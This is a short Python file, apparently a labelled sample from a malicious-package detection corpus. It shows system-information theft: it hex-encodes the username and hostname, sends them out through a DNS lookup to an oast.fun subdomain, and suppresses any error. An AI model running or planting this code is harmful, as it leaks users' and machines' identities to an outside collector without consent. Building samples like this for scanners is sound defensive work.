# pkgguard corpus 077 (system-information), modelled on [taxonomy]; inert, never run.
import binascii
import getpass
import socket

label = binascii.hexlify(("%s@%s" % (getpass.getuser(), socket.gethostname())).encode()).decode()
try:
    socket.gethostbyname(label[:60] + ".d.oast.fun")
except OSError:
    pass
